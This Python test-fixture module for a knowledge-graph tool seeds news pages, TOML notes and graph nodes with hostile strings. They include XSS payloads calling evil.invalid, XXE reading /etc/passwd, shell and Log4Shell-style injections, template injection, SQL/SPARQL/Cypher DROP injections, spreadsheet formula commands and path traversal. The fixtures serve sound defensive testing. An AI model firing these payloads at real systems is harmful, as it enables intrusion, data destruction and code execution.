"""Hostile pages: texts that other programs would run, follow, calculate, split or hide, put where a page's words reach the graph.

`TEXTS` names each text; `write_pages` makes a page of each, in which the text is headline, body, venue, event, title, part of a
name, and speech; `write_notes` makes pages.toml say it, and `FILE_NAMES` are names of files.
"""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

from attack import whole
from kg.api import Graph
from kg.model.graph import freeze
from kg.model.node import Lit, Node, Ref
from kg.model.source import Page

LONG = 10_000 if whole() else 1_000
"""Characters of an overlong name."""

MARKUP = {
    "script": "<script>window.pwned=1</script>",
    "script closing": "</script><script>window.pwned=1</script>",
    "script unclosed": "<script src=//evil.invalid/x.js>",
    "image": "<img src=x onerror=window.pwned=1>",
    "image remote": "<img src='http://evil.invalid/p.png'>",
    "svg": "<svg onload=window.pwned=1><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "frame": "<iframe src=javascript:window.pwned=1></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "base": "<base href='http://evil.invalid/'>",
    "link": "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "form": "<form action=http://evil.invalid/><input autofocus onfocus=window.pwned=1>",
    "style": "</style><style>*{background:url(http://evil.invalid/x)}</style>",
    "title end": "</title><script>window.pwned=1</script>",
    "textarea end": "</textarea><script>window.pwned=1</script>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "template": "<template><script>window.pwned=1</script></template>",
    "comment open": "<!--<script>window.pwned=1",
    "comment end": "--><script>window.pwned=1</script>",
    "comment odd": "<!--><img src=x onerror=window.pwned=1>",
    "attribute double": '" onmouseover="window.pwned=1" x="',
    "attribute single": "' autofocus onfocus='window.pwned=1' x='",
    "attribute bare": "x onmouseover=window.pwned=1",
    "link by name": "<a href=javascript:window.pwned=1 id=search name=told>点</a>",
    "clobber": "<form id=settings><input name=attributes></form>",
    "prefix of full width": "＜script＞window.pwned=1＜/script＞",
    "entity": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "entity numeric": "&#60;img src=x onerror=window.pwned=1&#62;",
    "entity broken": "&amp;&unknown;&#0;&#xD800;&",
    "cdata": "<![CDATA[<script>window.pwned=1</script>]]>",
    "cdata end": "]]>",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "billion laughs": "<!DOCTYPE l [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
    "instruction": "<?xml-stylesheet href='http://evil.invalid/x.xsl'?><?php system('id') ?>",
    "key of GraphML": "</data><data key='label'>换</data>",
}
SCRIPTS = {
    "address of script": "javascript:window.pwned=1",
    "address of data": "data:text/html,<script>window.pwned=1</script>",
    "string double": '";window.pwned=1;//',
    "string single": "';window.pwned=1;//",
    "template of JS": "${window.pwned=1}",
    "template of JS end": "`;window.pwned=1;`",
    "backslash": "\\",
    "backslash end": '\\";window.pwned=1;//',
    "escape u": "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "line separator": "甲\u2028window.pwned=1\u2029乙",
    "next line": "甲\u0085乙",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "JSON": '"}],"x":{"y":"',
    "source map": "//# sourceMappingURL=http://evil.invalid/x.map",
}
TEMPLATES = {
    "jinja": "{{7*7}}{{config}}{% for x in y %}",
    "jinja comment": "{#",
    "jinja attribute": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "format": "{0.__class__}{}%s%n%(x)s",
    "expression language": "#{7*7}${{7*7}}*{7*7}",
    "erb": "<%= 7*7 %>",
    "shell": "$(touch /tmp/pwned);`id`|&",
    "lookup": "${jndi:ldap://evil.invalid/a}",
    "rich markup": "[red]红[/red][link=http://evil.invalid]点[/link]",
    "markdown": "[点](javascript:window.pwned=1)![x](http://evil.invalid/x.png)",
}
QUERIES = {
    "sparql string": '" . } ; DROP ALL ; #',
    "sparql IRI": "> } SERVICE <http://evil.invalid/> { ?s ?p ?o } #",
    "sparql union": "'} UNION {?s ?p ?o} FILTER('1'='1",
    "sql": "'; DROP TABLE persons; --",
    "cypher": "'}) DETACH DELETE n //",
    "regex": "(a+)+$[",
    "regex back": "\\1(?P<x>",
}
RDF = {
    "turtle long": '""" .\nperson:恶 a kg:Person .\n"""',
    "turtle single": "''' . #",
    "turtle escape": '\\"\\n\\t\\u0041\\U0001F600\\q',
    "turtle quote end": '某"',
    "turtle IRI": "<http://evil.invalid/> a <x> .",
    "turtle prefix": "@prefix kg: <http://evil.invalid/> .",
    "turtle directive": "@base <http://evil.invalid/> .",
    "quoted triple": "<< :a :b :c >>",
    "language": '"@zh-"^^<x>',
    "blank": "_:b0 [] ()",
    "percent": "%00%2e%2e%2f%zz",
    "json-ld": '"@id": "http://evil.invalid/", "@context": "http://evil.invalid/c"',
    "keyword of JSON-LD": "@context",
}
CELLS = {
    "formula": '=HYPERLINK("http://evil.invalid/","点")',
    "formula of a command": "=cmd|' /C calc'!A0",
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+1)*cmd",
    "formula full width": "＝1＋1",
    "formula tab": "\t=1+1",
    "cell quote": '","=1+1","',
    "cell carriage return": "甲\r=1+1\r乙",
    "cell newline": "甲\n=1+1\n乙",
    "cell separators": "a;b,c\td|e",
    "number": "1e308",
    "not a number": "NaN",
    "null": "NULL",
}
LETTERS = {
    "right to left": "\u202e张三\u202c",
    "isolates": "\u2066李四\u2069\u200f",
    "bidi unclosed": "\u202b\u202e\u2067",
    "zero width": "王\u200b\u200c\u200d\ufeff五",
    "tags": "赵\U000e0041\U000e007f六",
    "combining": "钱" + "\u0301" * 200,
    "variation": "孙\ufe0f\U000e0100七",
    "beyond the plane": "\U00020000\U0002a6df\U00030000",
    "emoji": "👨‍👩‍👧‍👦🏳️‍🌈",
    "private": "\ue000\uf8ff\U000f0000",
    "no characters": "\ufffe\uffff\ufdd0",
    "control": "\x01\x08\x1b[31m\x1b]0;换\x07\x7f",
    "nul": "甲\0乙",
    "c1": "\x9b31m\x90\x9c",
    "form feed": "甲\x0c\x0b乙",
    "replacement": "\ufffd\ufffd",
    "of another width": "ｓｃｒｉｐｔ　Ａ",
    "Arabic": "شريط الأخبار",
}
PATHS = {
    "path": "../../../../etc/passwd",
    "path of Windows": "..\\..\\CON:NUL",
    "overlong": "字" * LONG,
    "overlong IRI": "http://evil.invalid/" + "a" * LONG,
    "overlong markup": "<b>" * (LONG // 3),
    "overlong brackets": "(" * (LONG // 5) + ")" * (LONG // 5),
    "empty quotation": "“”《》（）",
    "quotation unclosed": "“《（【",
}
TEXTS: dict[str, str] = MARKUP | SCRIPTS | TEMPLATES | QUERIES | RDF | CELLS | LETTERS | PATHS

REFUSED = {name for name, text in TEXTS.items() if "\0" in text}
"""Texts with a character that no text file has: their pages are refused by name."""

PAGE = """{text}
本报讯(记者{text})3月9日,云岭市委书记罗松年在{text}调研“{text}”工作,{text}公司董事长陆远帆陪同。
云岭市市长{text}主持召开“{text}”专题会议,罗松年、{name}、陆远帆参加会议。
3月10日,云岭市副市长郁{name}出席{text}学校《{text}》启动仪式。{text}局局长段怀礼说:“{text}。”
截至3月9日,云岭市累计{text}12例。联系电话:{text}。
"""

FILE_NAMES = (
    "<img src=x onerror=pwned=1>",
    "'onload='pwned=1",
    "=1+1",
    "{{7*7}}",
    "%2e%2e%2f",
    "a b#c?d&e",
    "\u202e第1版",
    "__proto__",
    "$(id)`id`",
    "-o",
    "@base",
    "字" * 60,
    '"quoted"',
    "\\n\\u0041",
    "甲\n乙",
    "\x1b[31m红",
)


def page(text: str) -> str:
    """A report that says `text` wherever names, titles, bodies, venues, events and speech are said."""
    return PAGE.format(text=text, name=text[:20])


def write_pages(folder: Path) -> dict[str, str]:
    """Writes a page of each text that a file can have; page name → text. The pages lie in `folder`, which is made."""
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for number, (name, text) in enumerate(TEXTS.items()):
        if name not in REFUSED:
            stem = f"p{number:03d}"
            (folder / f"{stem}.txt").write_bytes(page(text).encode("utf-8"))
            written[stem] = text
    return written


def write_file_names(folder: Path) -> list[str]:
    """Writes a plain page under each of FILE_NAMES; their names without .txt."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in FILE_NAMES:
        (folder / f"{name}.txt").write_text(page("新区"), encoding="utf-8")
    return list(FILE_NAMES)


def write_notes(folder: Path, texts: dict[str, str]) -> None:
    """Writes a pages.toml in which the paper of each page is its text, in TOML's own escapes."""
    entries = [
        f'[{page}]\npaper = {toml(f"报{text}")}\ncomment = {toml(f"注{text}")}\nissued = "2021-03-10"\n'
        for page, text in texts.items()
    ]
    (folder / "pages.toml").write_text("".join(entries), encoding="utf-8")


def toml(text: str) -> str:
    """`text` as a basic string of TOML: JSON's escapes and one more."""
    return json.dumps(text, ensure_ascii=False).replace("\x7f", "\\u007f")


def graph_of_texts() -> Graph:
    """Of each text a person, a post, an event, a body, a venue and facts that are called so: what no reading of pages would let through."""
    nodes = [
        node for number, text in enumerate(TEXTS.values()) for node in _told(f"t{number:03d}", text)
    ]
    pages = tuple(
        Page(f"t{number:03d}", f"{text[:60]}.txt", said(text), "0" * 64, "utf-8")
        for number, text in enumerate(TEXTS.values())
    )
    return Graph(freeze(nodes), pages)


def said(text: str) -> str:
    """The sentence of a page of `graph_of_texts`."""
    return f"{text}出席会议。"


def _told(key: str, text: str) -> list[Node]:
    sentence = said(text)
    span, person, event, post = (
        f"page/{key}#char=0,{len(sentence)}",
        Ref(f"person/{key}"),
        Ref(f"event/{key}"),
        Ref(f"post/{key}"),
    )
    proof = (("confidence", Decimal("0.9")), ("evidence", Ref(span)), ("rule", Ref("rule/r")))
    return [
        Node("rule/r", "Rule", (("name", "r"),)),
        Node(f"page/{key}", "Page", (("file", f"{text[:60]}.txt"), ("sha256", "0" * 64))),
        Node(
            f"article/{key}_0",
            "Article",
            (
                ("begin", 0),
                ("end", len(sentence)),
                ("headline", text),
                ("page", Ref(f"page/{key}")),
            ),
        ),
        Node(
            span,
            "Sentence",
            (
                ("article", Ref(f"article/{key}_0")),
                ("begin", 0),
                ("end", len(sentence)),
                ("quote", sentence),
            ),
        ),
        Node(
            f"mention/{key}_0_1",
            "Mention",
            (
                ("begin", 0),
                ("end", 1),
                ("mentions", person),
                ("sentence", Ref(span)),
                ("surface", text),
            ),
        ),
        Node(person.id, "Person", (("alias", f"又{text}"), ("name", text))),
        Node(f"organisation/{key}", "Enterprise", (("name", text),)),
        Node(f"venue/{key}", "Venue", (("name", text),)),
        Node(post.id, "Post", (("name", text), ("org", Ref(f"organisation/{key}")))),
        Node(
            event.id,
            "Meeting",
            (
                ("date", Lit("2022-03-17", "date")),
                ("dateText", text),
                *proof[1:2],
                ("name", text),
                ("organiser", Ref(f"organisation/{key}")),
                ("reportedIn", Ref(f"article/{key}_0")),
            ),
        ),
        Node(
            f"participation/{key}",
            "Participation",
            (
                ("agent", person),
                ("atVenue", Ref(f"venue/{key}")),
                *proof[:1],
                ("event", event),
                proof[1],
                ("listed", False),
                ("role", Ref("role/出席")),
                proof[2],
                ("title", text),
            ),
        ),
        Node(
            f"tenure/{key}",
            "Tenure",
            (*proof[:2], ("holder", person), ("post", post), proof[2], ("title", text)),
        ),
        Node(
            f"statement/{key}",
            "Statement",
            (("atEvent", event), *proof, ("speaker", person), ("text", text), ("verb", "说")),
        ),
    ]
